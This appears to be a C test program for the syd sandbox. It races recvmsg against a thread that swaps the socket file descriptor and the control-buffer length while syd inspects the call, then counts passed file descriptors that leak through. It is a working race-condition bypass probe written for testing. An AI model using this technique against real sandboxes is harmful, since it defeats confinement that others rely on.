// Races recvmsg against a second thread that swaps what the kernel would read again if syd let
// the call continue after looking at it: the fd number (dup2 of a UNIX socket over a UDP one)
// and the message's control room (0 and room, in turns). A child sends ROUNDS datagrams, each
// carrying a pipe fd. Prints `received=N leaked=M`: M counts the fds that reached this process.
//
//   race_recvfd ROUNDS
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int target, unix_end, udp;
static atomic_int stop;
static struct msghdr msg;
static union {
  char buf[CMSG_SPACE(sizeof(int) * 4)];
  struct cmsghdr align;
} control;

// Holds each state about as long as syd takes to look at a call (tens of microseconds).
static void hold(void) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000000000L + now.tv_nsec - start.tv_nsec < 20000);
}

static void *swapper(void *arg) {
  (void)arg;
  while (!atomic_load(&stop)) {
    dup2(unix_end, target);
    msg.msg_controllen = sizeof control.buf;
    hold();
    dup2(udp, target);
    msg.msg_controllen = 0;
    hold();
  }
  return NULL;
}

int main(int argc, char **argv) {
  int rounds = argc > 1 ? atoi(argv[1]) : 200;
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) < 0) return perror("socketpair"), 2;
  pid_t child = fork();
  if (child < 0) return perror("fork"), 2;
  if (child == 0) {
    close(sv[1]);
    int p[2];
    if (pipe(p) < 0) _exit(2);
    for (int i = 0; i < rounds; i++) {
      char data = 'x';
      struct iovec iov = {.iov_base = &data, .iov_len = 1};
      union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
      } out;
      memset(&out, 0, sizeof out);
      struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = out.buf, .msg_controllen = sizeof out.buf};
      struct cmsghdr *c = CMSG_FIRSTHDR(&m);
      c->cmsg_level = SOL_SOCKET;
      c->cmsg_type = SCM_RIGHTS;
      c->cmsg_len = CMSG_LEN(sizeof(int));
      memcpy(CMSG_DATA(c), &p[0], sizeof(int));
      if (sendmsg(sv[0], &m, 0) < 0) _exit(3);
    }
    _exit(0);
  }
  close(sv[0]);
  unix_end = sv[1];
  udp = socket(AF_INET, SOCK_DGRAM, 0);
  if (udp < 0) return perror("socket"), 2;
  target = dup(udp);
  pthread_t thread;
  if (pthread_create(&thread, NULL, swapper, NULL) != 0) return 2;
  int received = 0, leaked = 0;
  char data[8];
  struct iovec iov = {.iov_base = data, .iov_len = sizeof data};
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (received >= rounds || now.tv_sec - start.tv_sec > 20) break;
    memset(&control, 0, sizeof control);
    msg.msg_name = NULL;
    msg.msg_namelen = 0;
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    msg.msg_control = control.buf;
    msg.msg_flags = 0;
    ssize_t n = recvmsg(target, &msg, MSG_DONTWAIT);
    if (n < 0) continue;
    received++;
    // The buffer, not msg_controllen (the other thread writes it): what the kernel wrote.
    struct cmsghdr *c = &control.align;
    if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS && c->cmsg_len >= CMSG_LEN(sizeof(int))) {
      int k = (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
      for (int i = 0; i < k && i < 4; i++) {
        int fd;
        memcpy(&fd, CMSG_DATA(c) + i * sizeof(int), sizeof(int));
        if (fd >= 0) close(fd);
        leaked++;
      }
    }
  }
  atomic_store(&stop, 1);
  pthread_join(thread, NULL);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
  printf("received=%d leaked=%d\n", received, leaked);
  return 0;
}
